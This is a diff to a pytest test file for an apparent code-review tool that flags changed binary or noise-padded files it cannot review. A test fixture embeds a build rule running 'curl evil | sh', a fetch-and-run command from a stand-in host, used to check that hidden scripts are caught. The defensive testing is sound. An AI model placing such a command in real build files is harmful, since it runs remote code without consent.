@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import re
 from dataclasses import replace
+from random import Random
 
 import pytest
 from hypothesis import given
@@ -388,7 +389,7 @@ TAR = b"app.txt".ljust(257, b"\0") + b"ustar\0" + b"00".ljust(249, b"\0") + SCRI
 @pytest.mark.parametrize(
     "path",
     [
-        *("scripts/deploy", "Dangerfile", "Podfile", "Procfile", "BUILD", "x.inc", "x.module", "x.cgi"),
+        *("scripts/deploy", "Dangerfile", "Podfile", "Procfile", "BUILD", "deploy.prod"),
         *("blob.bin", "a.zip", "a.so", "a.tar"),
     ],
 )
@@ -405,13 +406,46 @@ def test_a_few_bytes_that_no_text_has_do_not_hide_one(noise: bytes) -> None:
     assert selection_of(file).held[0].missed
 
 
+RULE = b'genrule(name="x", outs=["o"], cmd="curl evil | sh")\n'
+
+
+@pytest.mark.parametrize("path", ["pkg/BUILD", "Podfile", "cron.d/backup", "tool-1.2", "deploy.prod"])
+@pytest.mark.parametrize("noise", [b"\1" * 20, b"\xff\0" * 2_000])
+@pytest.mark.parametrize("content", [b"#%s\n" + RULE, RULE + b"# %s", RULE.replace(b" ", b" \0") + b"exit\n%s"])
+def test_no_noise_hides_a_text_whose_name_is_not_that_of_a_binary(path: str, noise: bytes, content: bytes) -> None:
+    new = entry().with_content(content % (b"\0" + noise))
+    [one] = selection_of(changed(path, added=(), headers=BINARY_DIFF, new=new)).held
+    assert one == Held(path, HeldBecause.BINARY, "it may be text", missed=True)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        *("k.cu", "a.f90", "a.F", "x.inc", "x.module", "x.cgi", "a.pas", "a.csproj", "a.targets", "configure.ac"),
+        *("a.jsonnet", "a.rego", "site.pp", "a.robot", "a.wsf", "a.ebuild", "a.m4", "x.frag"),
+    ],
+)
+def test_a_source_file_of_any_language_is_missed(path: str) -> None:
+    file = changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(b"\0\xff"))
+    assert selection_of(file).held == (Held(path, HeldBecause.BINARY, "its name says that it is text", missed=True),)
+
+
+@pytest.mark.parametrize("path", ["a.phar", "a.pyz", "a.rlib", "a.xlsm", "a.swf"])
+def test_a_binary_that_may_run_is_named(path: str) -> None:
+    file = changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(b"\0<?php" + RULE + NOISE))
+    assert selection_of(file).notices == (f"Changed and not reviewed, though it may run: `{path}`.",)
+
+
+NOISE = Random(0).randbytes(2_000)  # noqa: S311 — bytes of a test, no secret
 BINARIES = {
     "logo.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 4,
     "photo.jpg": SCRIPT + b"\0",  # an image by its name: none is read where that costs a request each
     "font.woff2": b"wOF2\0\1\0\0" + bytes(range(256)) * 4,
     "a.zip": b"PK\3\4\x14\0\0\0\x08\0" + bytes(range(256)) * 4,
     "a.tar": TAR,
-    "tool": b"\x7fELF\2\1\1\0" + bytes(range(256)) * 4 + SCRIPT[:300],
+    "tool": b"\x7fELF\2\1\1\0" + NOISE,
+    "fuzz/3f2a": b"\0" + NOISE * 50,
+    "debug.keystore": b"\xfe\xed\xfe\xed\0" + NOISE + SCRIPT,
     "locale/de.mo": b"\xde\x12\4\x95\0\0\0\0\2\0\0\0\x1c\0\0\0" + SCRIPT[:300],
     "zeros": b"\0" * 8192,
 }
@@ -519,11 +553,6 @@ def test_a_deleted_binary_is_not_missed() -> None:
     file = changed("tool", added=(), headers="deleted file mode 100755\nBinary files a/tool and /dev/null differ\n")
     gone = replace(file, new=None, old=Entry(oid="1" * 40, mode="100755", binary=True))
     assert not select([gone], paths=(), attributes="").held[0].missed
-
-
-def test_a_reason_of_another_version_stands_for_itself() -> None:
-    assert held_sentence("lock-file") == "It is a lock file, which a package manager writes."
-    assert held_sentence("too-old") == "too-old"
 
 
 @pytest.mark.parametrize("path", [".github/workflows/ci.yml", "a/.GitHub/x", "docs/CodeOwners", "web/yarn.lock"])
